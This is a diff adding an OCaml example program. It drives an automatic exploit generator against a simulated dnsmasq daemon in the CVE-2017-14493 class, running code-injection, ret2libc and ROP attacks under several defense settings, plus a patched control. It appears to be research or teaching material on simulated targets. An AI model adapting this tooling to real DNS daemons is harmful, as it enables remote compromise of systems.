@@ -1,0 +1,92 @@
+(* §V: adapting the exploit tooling to another DNS-based overflow with
+   "minimal modification" — here, the dnsmasq-sim daemon (CVE-2017-14493
+   class): a 2048-byte buffer, different frame offsets, an inline copy
+   loop, and a different gadget inventory.  The only attacker-side change
+   is the frame-geometry swap.
+
+     dune exec examples/adaptation.exe *)
+
+module D = Dnsmasq.Daemon
+module Autogen = Exploit.Autogen
+
+let say fmt = Format.printf (fmt ^^ "@.")
+let lookup = Dns.Name.of_string "upstream.example"
+
+let attack ~label ~arch ~profile ~strategy =
+  let d = D.create { D.patched = false; arch; profile; boot_seed = 8 } in
+  let analysis =
+    D.process (D.create { D.patched = false; arch; profile; boot_seed = 9008 })
+  in
+  (* The §V "minimal modification": same payload builders, dnsmasq frame. *)
+  let target =
+    Exploit.Target.make
+      ~frame:(Dnsmasq.Frame.geometry arch)
+      ~buffer_addr:(Dnsmasq.Frame.buffer_addr analysis)
+      analysis
+  in
+  match Autogen.generate ~analysis:target ~strategy () with
+  | Error e -> say "%-34s generation failed: %s" label e
+  | Ok (payload, raw_name) -> (
+      let query = D.make_query d lookup in
+      let disposition =
+        D.handle_response d (Dns.Craft.hostile_response ~query ~raw_name ())
+      in
+      say "%-34s %s -> %s" label payload.Exploit.Payload.strategy
+        (Format.asprintf "%a" D.pp_disposition disposition))
+
+let () =
+  say "== §V: the Connman toolkit vs dnsmasq-sim 2.77 ==";
+  say "";
+  let connman_fr = Connman.Frame.geometry Loader.Arch.Arm in
+  let dnsmasq_fr = Dnsmasq.Frame.geometry Loader.Arch.Arm in
+  say "the \"minimal modification\" (ARM):";
+  say "  buffer size    connman %4d  ->  dnsmasq %4d"
+    connman_fr.Machine.Stack_frame.buffer_size
+    dnsmasq_fr.Machine.Stack_frame.buffer_size;
+  say "  return offset  connman 0x%x ->  dnsmasq 0x%x"
+    connman_fr.Machine.Stack_frame.off_ret dnsmasq_fr.Machine.Stack_frame.off_ret;
+  say "";
+  attack ~label:"x86, no protections" ~arch:Loader.Arch.X86
+    ~profile:Defense.Profile.none ~strategy:Autogen.Code_injection;
+  attack ~label:"x86, W⊕X (ret2libc)" ~arch:Loader.Arch.X86
+    ~profile:Defense.Profile.wx ~strategy:Autogen.Ret2libc;
+  attack ~label:"armv7, W⊕X (gadget chain)" ~arch:Loader.Arch.Arm
+    ~profile:Defense.Profile.wx ~strategy:Autogen.Rop_wx;
+  attack ~label:"armv7, W⊕X+ASLR (full ROP)" ~arch:Loader.Arch.Arm
+    ~profile:Defense.Profile.wx_aslr ~strategy:Autogen.Rop_aslr;
+  say "";
+  (* The patched control. *)
+  let d =
+    D.create
+      {
+        D.patched = true;
+        arch = Loader.Arch.Arm;
+        profile = Defense.Profile.wx;
+        boot_seed = 8;
+      }
+  in
+  let analysis =
+    D.process
+      (D.create
+         {
+           D.patched = true;
+           arch = Loader.Arch.Arm;
+           profile = Defense.Profile.wx;
+           boot_seed = 9008;
+         })
+  in
+  let target =
+    Exploit.Target.make
+      ~frame:(Dnsmasq.Frame.geometry Loader.Arch.Arm)
+      ~buffer_addr:(Dnsmasq.Frame.buffer_addr analysis)
+      analysis
+  in
+  (match Autogen.generate ~analysis:target ~strategy:Autogen.Rop_wx () with
+  | Error e -> say "generation failed: %s" e
+  | Ok (_, raw_name) ->
+      let query = D.make_query d lookup in
+      say "%-34s rop-wx -> %s" "armv7 2.78 (patched control)"
+        (Format.asprintf "%a" D.pp_disposition
+           (D.handle_response d (Dns.Craft.hostile_response ~query ~raw_name ()))));
+  say "";
+  say "Same generator, same chains — only the frame constants changed."
